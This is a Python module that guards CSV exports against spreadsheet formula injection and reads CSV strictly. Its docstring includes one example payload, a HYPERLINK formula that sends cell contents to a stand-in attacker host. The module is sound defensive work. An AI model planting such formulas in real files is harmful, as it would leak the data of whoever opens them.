"""CSV cells that a spreadsheet will not execute, and CSV records read strictly.

Why a module of its own: ``list --csv`` (the CLI) and the CSV exchange format (the
core) both write cells, and a listing must not pay for importing the exchange code.

**Formula injection** (the OWASP "CSV injection" rule): a spreadsheet runs a cell that
begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab or carriage
return can hide such a start. ``=HYPERLINK("http://evil.example/?leak="&A1,"Click")`` in
a claim text would leak the sheet when the analyst opens the file. So such a cell gets a
leading apostrophe, which spreadsheets read as "this is text" and do not show; so does
a cell that begins with any other control character (see ``_CONTROL_START``). A cell
that is purely a number (``-5``, ``+3.2``, ``1e-3``) is left alone: it is no formula and
must stay a number.

**Reading back what we wrote**: the rule is applied to the text *after* any leading
apostrophes, so a text that itself begins with apostrophes and then a formula start
(``'=x``) gets one more apostrophe (``''=x``). Removing exactly one leading apostrophe
from a cell of that shape is then the exact inverse, for every text. Our own files are
recognised by that shape alone: an apostrophe followed by a formula start is what the
exporter writes, and what no spreadsheet keeps in a cell's value (typing ``'=x`` in one
stores ``=x``). One consequence: a raw export (``--raw-csv``) of a text that begins with
an apostrophe and then a formula start loses that apostrophe on import.
"""

from __future__ import annotations

import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Any other control character at the start is treated the same: a tool on the way may
# drop it, and with it whatever hid the formula (click strips "\x1b[2J" from text
# written to a pipe, leaving "@SUM(…)" at the start of the cell).
_CONTROL_START = tuple(chr(code) for code in (*range(0x20), 0x7F))
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


class MalformedCsv(ValueError):
    """The text is not well-formed CSV; the message starts with 'line N: '."""


def _runs_as_formula(text: str) -> bool:
    """True for text a spreadsheet would evaluate: a formula start that is not a number."""
    return (text.startswith(FORMULA_STARTS) or text.startswith(_CONTROL_START)) and not (
        _PLAIN_NUMBER.fullmatch(text))


def spreadsheet_safe(cell: str) -> str:
    """The cell as it is written to a CSV file: a leading apostrophe when it would run."""
    return "'" + cell if _runs_as_formula(cell.lstrip("'")) else cell


def from_spreadsheet(cell: str) -> str:
    """The inverse of ``spreadsheet_safe``: the apostrophe it added, removed."""
    if cell.startswith("'") and _runs_as_formula(cell[1:].lstrip("'")):
        return cell[1:]
    return cell


def _line_of(text: str, offset: int) -> int:
    """The physical line (from 1) holding ``offset``; CR, LF and CRLF each end a line."""
    before = text[:offset]
    return before.count("\n") + before.count("\r") - before.count("\r\n") + 1


def read_records(text: str) -> list[tuple[int, list[str]]]:
    """(first line number, cells) of every record, blank records included.

    Strict: a quoted field that is never closed (it would swallow the rest of the
    file), text after a closing quote, and a NUL character are errors naming the line,
    never read as best it can.
    """
    nul = text.find("\0")
    if nul >= 0:
        raise MalformedCsv(f"line {_line_of(text, nul)}: a NUL character (\\0): the file is "
                           "binary or damaged, not CSV text")
    reader = csv.reader(io.StringIO(text, newline=""), strict=True)
    records: list[tuple[int, list[str]]] = []
    previous_end = 0
    try:
        for cells in reader:
            records.append((previous_end + 1, cells))
            previous_end = reader.line_num
    except csv.Error as exc:
        start = previous_end + 1
        if "unexpected end of data" in str(exc):
            raise MalformedCsv(f"line {start}: a quoted field that starts in this record is "
                               "never closed (a missing \" runs to the end of the file)"
                               ) from None
        raise MalformedCsv(f"line {reader.line_num}: not readable as CSV ({exc}); a quote "
                           "inside a quoted field must be doubled (\"\")") from None
    return records


def write_rows(rows: list[list[str]], *, raw: bool = False) -> str:
    """CSV text of these rows, every cell made spreadsheet-safe unless ``raw``.

    Lines end in CRLF (RFC 4180): the writer quotes a cell holding any character of the
    line ending, so with a bare LF a cell holding a lone CR would go out unquoted and
    split the row when read back.
    """
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow(row if raw else [spreadsheet_safe(str(cell)) for cell in row])
    return out.getvalue()
